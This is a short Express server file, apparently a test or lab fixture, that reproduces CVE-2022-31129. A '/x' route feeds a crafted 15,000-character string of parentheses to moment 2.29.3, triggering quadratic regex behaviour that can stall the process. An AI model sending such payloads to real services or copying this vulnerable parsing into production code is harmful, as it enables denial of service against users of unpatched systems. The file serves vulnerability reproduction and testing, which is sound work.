// Parses a date that came with a record using moment 2.29.3; the value is a crafted string
// (CVE-2022-31129: the RFC 2822 preprocessing regex is quadratic on long inputs).
'use strict';
const express = require('express');
const moment = require('moment');

const record = { id: 7, dueDate: '('.repeat(15000) };

const app = express();
app.get('/health', (req, res) => res.send('ok'));

app.get('/x', (req, res) => {
  const due = moment(record.dueDate);
  res.json({ id: record.id, valid: due.isValid() });
});

app.listen(Number(process.env.PORT) || 0, '127.0.0.1');
